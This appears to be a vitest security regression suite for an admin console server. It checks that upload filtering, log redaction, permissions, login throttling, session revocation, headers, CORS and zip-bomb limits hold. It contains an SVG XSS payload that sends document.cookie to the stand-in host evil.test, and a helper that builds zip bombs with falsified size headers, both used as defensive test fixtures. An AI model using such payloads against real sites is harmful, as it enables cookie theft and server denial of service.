import { mkdtemp, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { AppContext } from '../context';
import { writeZip } from '../domain/crud/zip';
import { writeXlsx } from '../domain/crud/xlsx';
import { MAX_FAILURES } from '../domain/login-throttle';
import { OPEN_WRITE_REQUIRED } from '../features/system/resources/white-list';
import { startTestServerWithContext, type TestServer } from '../testing';
import { call, expectFailure, login, SERVER_TIMEOUT_MS, suiteServer } from '../test/helpers';
import { openWatched } from '../test/socket-watch';
import { NUL_MSG } from './health';
import { consoleCsp, inlineScriptHashes } from './security-headers';
import { createHash } from 'node:crypto';

/**
 * Each hole found by the attacker's probe, as a test that fails on the code before it.
 * (Sessions: refresh rotation and reuse are in server/routes/auth.test.ts.)
 */

const PNG_1x1 = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
const SVG_XSS = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.test/?c="+document.cookie)</script></svg>';

let srv: TestServer;
let ctx: AppContext;
let superadmin: string;
suiteServer(['superadmin'], (s) => ({ srv, ctx, tokens: [superadmin] } = s));

function upload(server: TestServer, token: string, content: string | Buffer, name: string, type = 'application/octet-stream') {
  const form = new FormData();
  form.append('file', new Blob([typeof content === 'string' ? content : new Uint8Array(content)], { type }), name);
  return fetch(`${server.baseUrl}/api/system/file/`, { method: 'POST', body: form, headers: { authorization: `JWT ${token}` } }).then(
    async (r) => (await r.json()) as { code: number; msg: string; data: { url: string; mime_type: string } | null },
  );
}

describe('1. uploads: no script runs from the console origin', () => {
  it('an SVG with a script is refused, whatever it is called or claims to be', async () => {
    const test = (await login(srv, 'test', 'admin123456', false)).access;
    expect(await upload(srv, test, SVG_XSS, 'logo.svg', 'image/svg+xml')).toMatchObject({ code: 4000, data: null, msg: 'file:不支持的文件类型（.svg）。' });
    expect(await upload(srv, test, SVG_XSS, 'logo.png', 'image/png')).toMatchObject({ code: 4000, msg: 'file:文件内容与扩展名不符。' });
    expect(await upload(srv, test, `<html><script>alert(1)</script></html>`, 'page.html', 'text/html')).toMatchObject({ code: 4000 });
    expect(await upload(srv, test, PNG_1x1, 'fake.pdf')).toMatchObject({ code: 4000, msg: 'file:文件内容与扩展名不符。' });
  });

  it('a real PNG is served inline as image/png; a text file as an attachment; both under a sandbox CSP', async () => {
    const png = await upload(srv, superadmin, PNG_1x1, 'dot.png', 'text/html');
    expect(png).toMatchObject({ code: 2000, data: { mime_type: 'image/png' } });
    const served = await fetch(`${srv.baseUrl}/${png.data?.url ?? ''}`);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('content-disposition')).toBe('inline');
    expect(served.headers.get('content-security-policy')).toContain('sandbox');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    const txt = await upload(srv, superadmin, '<script>alert(1)</script>', 'note.txt');
    const servedTxt = await fetch(`${srv.baseUrl}/${txt.data?.url ?? ''}`);
    expect(servedTxt.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(servedTxt.headers.get('content-disposition')).toBe('attachment');
  });

  it('an SVG stored before the fix is served as an attachment of type application/octet-stream', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'security-media-'));
    const { srv: disk } = await startTestServerWithContext({ captcha: false, env: { DATA_DIR: dir } });
    try {
      await mkdir(join(dir, 'media', 'files', 'a', 'b'), { recursive: true });
      await writeFile(join(dir, 'media', 'files', 'a', 'b', 'ab0000.svg'), SVG_XSS);
      const res = await fetch(`${disk.baseUrl}/media/files/a/b/ab0000.svg`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('application/octet-stream');
      expect(res.headers.get('content-disposition')).toBe('attachment');
      expect(res.headers.get('content-security-policy')).toMatch(/default-src 'none'.*sandbox/);
    } finally {
      await disk.close();
      await rm(dir, { recursive: true, force: true });
    }
  }, SERVER_TIMEOUT_MS);

  it('absolute file URLs come from configuration, not from a spoofed Host header', async () => {
    await upload(srv, superadmin, 'host check', 'host-check.txt');
    const port = new URL(srv.baseUrl).port;
    const text = await new Promise<string>((resolve, reject) => {
      const req = request({ host: '127.0.0.1', port, path: '/api/system/file/?name=host-check&prefix=1', headers: { host: 'evil.test', authorization: `JWT ${superadmin}` } }, (res) => {
        let body = '';
        res.on('data', (c: Buffer) => (body += c.toString()));
        res.on('end', () => resolve(body));
      });
      req.on('error', reject);
      req.end();
    });
    expect(text).not.toContain('evil.test');
    expect(text).toContain(`${srv.baseUrl}/media/files/`);
  });
});

describe('2. the operation log keeps no secrets', () => {
  it('after a sign-in and a refresh, no row of the log contains either token', async () => {
    const data = await login(srv, 'admin', 'admin123456', false);
    const refreshed = await call<{ access: string; refresh: string }>(srv, '/token/refresh/', { body: { refresh: data.refresh } });
    expect(refreshed.body.code).toBe(2000);
    await new Promise((r) => setTimeout(r, 300));
    const rows = await ctx.db.query<Record<string, unknown>>('SELECT * FROM operation_log');
    const text = JSON.stringify(rows);
    expect(text).toContain('/token/refresh/');
    for (const token of [data.access, data.refresh, refreshed.body.data.access, refreshed.body.data.refresh]) {
      expect(text).not.toContain(token.split('.')[2]);
    }
    const loginRow = rows.find((r) => r.request_path === '/api/login/' && r.response_code === '2000');
    expect(String(loginRow?.json_result)).toContain('"access":"******"');
  });

  it('migration 010 redacts tokens already stored in old rows', async () => {
    const token = srv.signToken({});
    await ctx.db.query(
      `INSERT INTO operation_log (request_modular, request_path, request_body, request_method, json_result, status)
       VALUES ('登录模块', '/api/login/', '{"username":"x","password":"hunter2-secret-pass"}', 'POST', $1, true)`,
      [JSON.stringify({ code: 2000, msg: '请求成功', data: { refresh: token, access: token, name: 'x' } })],
    );
    const sql = await readFile(new URL('../db/migrations/010_security.sql', import.meta.url), 'utf8');
    const update = /UPDATE operation_log[\s\S]*?;/.exec(sql)?.[0];
    expect(update).toBeDefined();
    await ctx.db.exec(update ?? '');
    const text = JSON.stringify(await ctx.db.query('SELECT request_body, json_result FROM operation_log'));
    expect(text).not.toContain(token);
    expect(text).not.toContain('hunter2-secret-pass');
    expect(text).toContain('\\"name\\":\\"x\\"');
  });
});

describe('3. the API white list cannot grant what its writer does not hold', () => {
  it('admin (no delete right) cannot write the white list at all', async () => {
    const admin = (await login(srv, 'admin', 'admin123456', false)).access;
    const res = await call(srv, '/api/system/api_white_list/', { token: admin, body: { url: '/api/system/dept/{id}/', method: 3, enable_datasource: false, open_write: true } });
    expectFailure(res, 4000, '您没有执行该操作的权限。 (POST: /api/system/api_white_list/)');
    const depts = async () => (await ctx.db.query<{ n: number }>('SELECT count(*)::int AS n FROM depts WHERE id = 3'))[0]?.n;
    const before = await depts();
    expect(before).toBe(1);
    const test = (await login(srv, 'test', 'admin123456', false)).access;
    expect((await call(srv, '/api/system/dept/3/', { method: 'DELETE', token: test })).body.msg).toContain('您没有执行该操作的权限');
    // A refusal (or a missing sign-in) stops the call: the route never runs after the answer is sent.
    expect((await call(srv, '/api/system/dept/3/', { method: 'DELETE' })).body.code).not.toBe(2000);
    await new Promise((r) => setTimeout(r, 200));
    expect(await depts()).toBe(before);
  });

  it('a write entry needs open_write, even from a superuser; one without it (older rows) grants nothing', async () => {
    const refused = await call(srv, '/api/system/api_white_list/', { token: superadmin, body: { url: '/api/system/area/{id}/', method: 3 } });
    expectFailure(refused, 4000, OPEN_WRITE_REQUIRED);
    await ctx.db.query("INSERT INTO api_white_list (url, method, enable_datasource) VALUES ('/api/system/area/{id}/', 2, false)");
    const test = (await login(srv, 'test', 'admin123456', false)).access;
    expect((await call(srv, '/api/system/area/1/', { method: 'PUT', token: test, body: { name: 'x' } })).body.msg).toContain('您没有执行该操作的权限');
    const allowed = await call(srv, '/api/system/api_white_list/', { token: superadmin, body: { url: '/api/system/area/{id}/', method: 3, open_write: true } });
    expect(allowed.body.code).toBe(2000);
    // Now granted to everyone, as the superuser said explicitly (the area may be in use: any answer but a refusal).
    expect(String((await call(srv, '/api/system/area/999999/', { method: 'DELETE', token: test })).body.msg)).not.toContain('您没有执行该操作的权限');
  });
});

describe('4. sign-in throttling', () => {
  it(`${MAX_FAILURES} wrong passwords lock the account name; then even the right one is refused with a clear message`, async () => {
    for (let i = 0; i < MAX_FAILURES - 1; i++) {
      expectFailure(await call(srv, '/api/login/', { body: { username: 'test', password: `wrong-${i}` } }), 401, '账号/密码错误');
    }
    const locking = await call(srv, '/api/login/', { body: { username: 'test', password: 'wrong-last' } });
    expectFailure(locking, 4000, '密码错误次数过多，账号已临时锁定，请 15 分钟后再试');
    for (let i = 0; i < 10; i++) {
      expect((await call(srv, '/api/login/', { body: { username: 'test', password: 'admin123456' } })).body.msg).toMatch(/已临时锁定/);
    }
    // Other accounts are not affected; the lock lifts when its time is over.
    expect((await call(srv, '/api/login/', { body: { username: 'admin', password: 'admin123456' } })).body.code).toBe(2000);
    await ctx.db.query("UPDATE login_failures SET locked_until = now() - interval '1 second' WHERE username = 'test'");
    expect((await call(srv, '/api/login/', { body: { username: 'test', password: 'admin123456' } })).body.code).toBe(2000);
  }, SERVER_TIMEOUT_MS);

  it('per client IP (@fastify/rate-limit; in the process on the embedded database): HTTP 429, Retry-After and the envelope', async () => {
    const { srv: limited, ctx: lctx } = await startTestServerWithContext({ captcha: false, env: { SIGNIN_RATE_LIMIT: '5' } });
    try {
      for (let i = 0; i < 5; i++) expect((await call(limited, '/api/captcha/')).status).toBe(200);
      const over = await call(limited, '/api/login/', { body: { username: 'superadmin', password: 'admin123456' } });
      expect(over.status).toBe(429);
      expect(over.body).toMatchObject({ code: 4000, data: null });
      expect(String(over.body.msg)).toMatch(/^请求过于频繁，请 \d+ 秒后再试$/);
      expect(Number(over.headers.get('retry-after'))).toBeGreaterThan(0);
      expect((await call(limited, '/token/refresh/', { body: { refresh: 'x' } })).status).toBe(429);
      // Nothing is written per request on the embedded database (PostgreSQL instances count in rate_limits: security-cluster.test.ts).
      expect(await lctx.db.query('SELECT key FROM rate_limits')).toEqual([]);
      // Other calls are not throttled.
      expect((await call(limited, '/api/init/settings/')).status).toBe(200);
    } finally {
      await limited.close();
    }
  }, SERVER_TIMEOUT_MS);
});

describe('4b. the mounted GraphQL gateway passes the client address on', () => {
  it('sign-in calls through /graphql are counted per client, not for the gateway; a forged vouching header is ignored', async () => {
    // One sign-in call per client address and minute.
    const { srv: proxied } = await startTestServerWithContext({ captcha: false, env: { TRUST_PROXY: 'on', SIGNIN_RATE_LIMIT: '1' } });
    const viaGateway = async (client: string) => {
      const res = await fetch(`${proxied.baseUrl}/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-forwarded-for': client },
        body: JSON.stringify({ query: '{ captcha { __typename } }' }),
      });
      expect(res.status).toBe(200);
      return (await res.json()) as { data?: unknown; errors?: unknown[] };
    };
    try {
      // 10.9.9.9's one call: answered, and counted for 10.9.9.9, not for the gateway's own address.
      expect((await viaGateway('10.9.9.9')).errors).toBeUndefined();
      expect((await call(proxied, '/api/captcha/')).status).toBe(200);
      // Now 127.0.0.1 is at its limit: a forged vouching header does not make it another client.
      expect((await call(proxied, '/api/captcha/', { headers: { 'x-gateway-client': '10.6.6.6', 'x-gateway-key': 'forged'.repeat(8) } })).status).toBe(429);
      // 10.9.9.9 is at its limit through the gateway too; another client through the gateway is not.
      expect((await viaGateway('10.9.9.9')).errors?.length).toBeGreaterThan(0);
      expect((await viaGateway('10.8.8.8')).errors).toBeUndefined();
    } finally {
      await proxied.close();
    }
  }, SERVER_TIMEOUT_MS);
});

describe('5. sessions end when they should', () => {
  it('logout stops the access token at once on the socket too: an open socket is closed, a new one refused', async () => {
    const data = await login(srv, 'admin', 'admin123456', false);
    const socket = await openWatched(`${srv.wsUrl}/api/ws/${data.access}/`);
    const closed = new Promise<number>((resolve) => socket.ws.on('close', (code) => resolve(code)));
    expect((await call(srv, '/api/logout/', { body: { refresh: data.refresh }, token: data.access })).body.code).toBe(2000);
    expect(await closed).toBe(4401);
    await expect(openWatched(`${srv.wsUrl}/api/ws/${data.access}/`, 3000)).rejects.toThrow();
  });

  it('a password change ends the other sessions and keeps the one that made it; a reset or disabling ends all', async () => {
    const userId = (await call<Array<{ id: number; username: string }>>(srv, '/api/system/user/?username=test', { token: superadmin })).body.data as unknown as { data: Array<{ id: number }> };
    const id = userId.data[0]?.id ?? 3;
    const storedCost = async () => ((await ctx.db.query<{ password: string }>('SELECT password FROM users WHERE id = $1', [id]))[0]?.password ?? '').split('$').slice(0, 4).join('$');
    // The sample account's published password is hashed cheaply on a test server (FAST_SAMPLE_PASSWORDS) ...
    expect(await storedCost()).toBe('scrypt$1024$8$1');
    const mine = await login(srv, 'test', 'admin123456', false);
    const other = await login(srv, 'test', 'admin123456', false);
    const changed = await call(srv, `/api/system/user/${id}/change_password/`, { method: 'PUT', token: mine.access, body: { oldPassword: 'admin123456', newPassword: 'Changed12345', newPassword2: 'Changed12345' } });
    expect(changed.body.code).toBe(2000);
    // ... a password a person sets gets the full cost, on every server.
    expect(await storedCost()).toBe('scrypt$32768$8$3');
    expect((await call(srv, '/api/system/user/user_info/', { token: mine.access })).body.code).toBe(2000);
    expect((await call(srv, '/api/system/user/user_info/', { token: other.access })).body.code).toBe(401);
    expectFailure(await call(srv, '/token/refresh/', { body: { refresh: other.refresh } }), 400, 'error', 401);
    // A reset by an administrator ends every session, the one above included.
    const reset = await call(srv, `/api/system/user/${id}/reset_password/`, { method: 'PUT', token: superadmin, body: { newPassword: 'admin123456', newPassword2: 'admin123456' } });
    expect(reset.body.code).toBe(2000);
    expect(await storedCost()).toBe('scrypt$32768$8$3');
    expect((await call(srv, '/api/system/user/user_info/', { token: mine.access })).body.code).toBe(401);
    // Disabling ends them too.
    const again = await login(srv, 'test', 'admin123456', false);
    await ctx.db.query('UPDATE users SET is_active = false WHERE id = $1', [id]);
    await ctx.db.query('UPDATE users SET is_active = true WHERE id = $1', [id]);
    expect((await call(srv, '/api/system/user/user_info/', { token: again.access })).body.code).toBe(401);
  }, SERVER_TIMEOUT_MS);
});

describe('6. security headers and CORS', () => {
  it('JSON answers: a CSP that loads nothing and forbids framing, X-Frame-Options DENY, Referrer-Policy, nosniff, HSTS; not the page policy', async () => {
    for (const path of ['/api/init/settings/', '/healthz', '/api/nope/']) {
      const res = await fetch(`${srv.baseUrl}${path}`);
      expect(res.headers.get('content-type'), path).toContain('application/json');
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp, path).toContain("default-src 'none'");
      expect(csp, path).toContain("frame-ancestors 'none'");
      // The console page's policy (script hashes, connect-src, …) is for HTML, not for every JSON answer.
      expect(csp, path).not.toContain('script-src');
      expect(res.headers.get('x-frame-options'), path).toBe('DENY');
      expect(res.headers.get('referrer-policy'), path).toBe('no-referrer');
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(res.headers.get('strict-transport-security'), path).toContain('max-age=');
      expect(res.headers.get('cross-origin-opener-policy'), path).toBeNull();
    }
  });

  it('answers that are not JSON (the text of /metrics here; the console page in static.test.ts) get the page policy: the console CSP, X-Frame-Options DENY, COOP, CORP', async () => {
    const res = await fetch(`${srv.baseUrl}/metrics`);
    await res.arrayBuffer();
    expect(res.headers.get('content-type')).toContain('text/plain');
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("script-src 'self'");
    expect(res.headers.get('x-frame-options')).toBe('DENY');
    expect(res.headers.get('referrer-policy')).toBe('no-referrer');
    expect(res.headers.get('cross-origin-opener-policy')).toBe('same-origin');
    expect(res.headers.get('cross-origin-resource-policy')).toBe('cross-origin');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it("the built index.html's inline boot scripts are allowed by their hashes, and nothing else inline", async () => {
    const dir = await mkdtemp(join(tmpdir(), 'csp-'));
    try {
      const boot = '(function(){window.__BOOT__=1})()';
      await writeFile(join(dir, 'index.html'), `<html><head><script>${boot}</script><script type="module" src="/assets/a.js"></script><script></script></head><body><!--console-config--></body></html>`);
      const hashes = inlineScriptHashes(dir);
      expect(hashes).toEqual([`'sha256-${createHash('sha256').update(boot).digest('base64')}'`]);
      const csp = consoleCsp({ apiUrl: '', publicUrl: null, corsOrigins: [] }, { apiUrl: '', wsPath: 'api/ws/{token}/' }, hashes);
      expect(csp.scriptSrc).toEqual(expect.arrayContaining(["'self'", ...hashes]));
      expect(csp.scriptSrc).not.toContain("'unsafe-inline'");
      expect(inlineScriptHashes(join(dir, 'missing'))).toEqual([]);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('CORS: only this origin and the configured ones are echoed, never null or a stranger', async () => {
    const { srv: configured } = await startTestServerWithContext({ captcha: false, env: { CORS_ORIGINS: 'https://console.example.test' } });
    try {
      const acao = async (origin: string) => (await fetch(`${configured.baseUrl}/api/init/settings/`, { headers: { origin } })).headers.get('access-control-allow-origin');
      expect(await acao('https://console.example.test')).toBe('https://console.example.test');
      expect(await acao(configured.baseUrl)).toBe(configured.baseUrl);
      expect(await acao('https://evil.test')).toBeNull();
      expect(await acao('null')).toBeNull();
      const pre = await fetch(`${configured.baseUrl}/api/login/`, { method: 'OPTIONS', headers: { origin: 'https://evil.test', 'access-control-request-method': 'POST' } });
      expect(pre.headers.get('access-control-allow-origin')).toBeNull();
      expect(pre.headers.get('access-control-allow-credentials')).toBeNull();
    } finally {
      await configured.close();
    }
  }, SERVER_TIMEOUT_MS);
});

/** A zip holding one sheet of `size` bytes; `declared` overrides the size its headers announce (a lying bomb). */
function bomb(size: number, declared = size): Buffer {
  const row = '<row><c t="inlineStr"><is><t>x</t></is></c></row>';
  const xml = `<worksheet><sheetData><row><c t="inlineStr"><is><t>用户账号</t></is></c></row>${row.repeat(Math.ceil(size / row.length))}</sheetData></worksheet>`;
  const zip = writeZip([{ name: 'xl/worksheets/sheet1.xml', data: Buffer.from(xml) }]);
  if (declared !== size) {
    // Central directory entry: uncompressed size at +24; local header: at +22.
    const central = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    zip.writeUInt32LE(declared, central + 24);
    zip.writeUInt32LE(declared, 22);
  }
  return zip;
}

describe('7. xlsx import: a zip bomb neither blocks the server nor gets parsed', () => {
  async function importing(file: Buffer): Promise<{ msg: string; pings: number[] }> {
    const form = new FormData();
    form.append('file', new Blob([new Uint8Array(file)]), 'bomb.xlsx');
    const pings: number[] = [];
    let done = false;
    const result = fetch(`${srv.baseUrl}/api/system/user/import_data/`, { method: 'POST', headers: { authorization: `JWT ${superadmin}` }, body: form })
      .then(async (r) => (await r.json()) as { msg: string })
      .finally(() => (done = true));
    while (!done) {
      const t0 = performance.now();
      await fetch(`${srv.baseUrl}/healthz`);
      pings.push(performance.now() - t0);
    }
    return { msg: (await result).msg, pings };
  }

  it('a 44 MB sheet whose size is declared: refused before inflating', async () => {
    const file = bomb(44 * 1024 * 1024);
    expect(file.length).toBeLessThan(1024 * 1024);
    const { msg } = await importing(file);
    expect(msg).toBe('文件解压后超过 8 MB，请拆分后再导入');
  }, SERVER_TIMEOUT_MS);

  it('a 44 MB sheet whose headers claim 1 KB: inflating stops at the claim, off the event loop', async () => {
    const { msg, pings } = await importing(bomb(44 * 1024 * 1024, 1024));
    expect(msg).toBe('文件解压后超过 8 MB，请拆分后再导入');
    expect(pings.length).toBeGreaterThan(0);
  }, SERVER_TIMEOUT_MS);

  it('a sheet with more rows than allowed is refused with the limit', async () => {
    const rows = Array.from({ length: 10_001 }, (_, i) => [`u${i}`, `n${i}`]);
    const form = new FormData();
    form.append('file', new Blob([new Uint8Array(await writeXlsx('users', ['用户账号', '姓名'], rows))]), 'many.xlsx');
    const res = await fetch(`${srv.baseUrl}/api/system/user/import_data/`, { method: 'POST', headers: { authorization: `JWT ${superadmin}` }, body: form });
    expect(((await res.json()) as { msg: string }).msg).toBe('表格最多 10000 行数据、256 列，请拆分后再导入');
  }, SERVER_TIMEOUT_MS);

  it('other requests answer within 100 ms while a large (allowed) sheet is parsed', async () => {
    // 7.5 MB of rows: under the limit, so it is really parsed (and then refused for its content).
    const { pings } = await importing(bomb(7.5 * 1024 * 1024));
    pings.sort((a, b) => a - b);
    const median = pings[Math.floor(pings.length / 2)] ?? 0;
    expect(median).toBeLessThan(100);
  }, SERVER_TIMEOUT_MS);
});

describe('8. small ones', () => {
  it('a NUL byte in a filter or a body is bad input, not a database error', async () => {
    expectFailure(await call(srv, '/api/system/user/?name=a%00b', { token: superadmin }), 4000, NUL_MSG);
    expectFailure(await call(srv, '/api/system/dept/', { token: superadmin, raw: '{"name":"a\\u0000b","parent":1}', headers: { 'content-type': 'application/json' } }), 4000, NUL_MSG);
  });

  it('recent_logins shows a user without the login log right only their own sign-ins', async () => {
    await login(srv, 'admin', 'admin123456', false);
    const test = (await login(srv, 'test', 'admin123456', false)).access;
    const mine = await call<Array<{ username: string }>>(srv, '/api/system/datav/recent_logins/', { token: test });
    expect(mine.body.data.length).toBeGreaterThan(0);
    expect(new Set(mine.body.data.map((r) => r.username))).toEqual(new Set(['test']));
    const all = await call<Array<{ username: string }>>(srv, '/api/system/datav/recent_logins/', { token: superadmin });
    expect(new Set(all.body.data.map((r) => r.username)).size).toBeGreaterThan(1);
  });

  it('/healthz and /readyz', async () => {
    const health = await fetch(`${srv.baseUrl}/healthz`);
    expect([health.status, await health.json()]).toEqual([200, { status: 'ok' }]);
    const ready = await fetch(`${srv.baseUrl}/readyz`);
    expect([ready.status, await ready.json()]).toEqual([200, { status: 'ready' }]);
  });
});
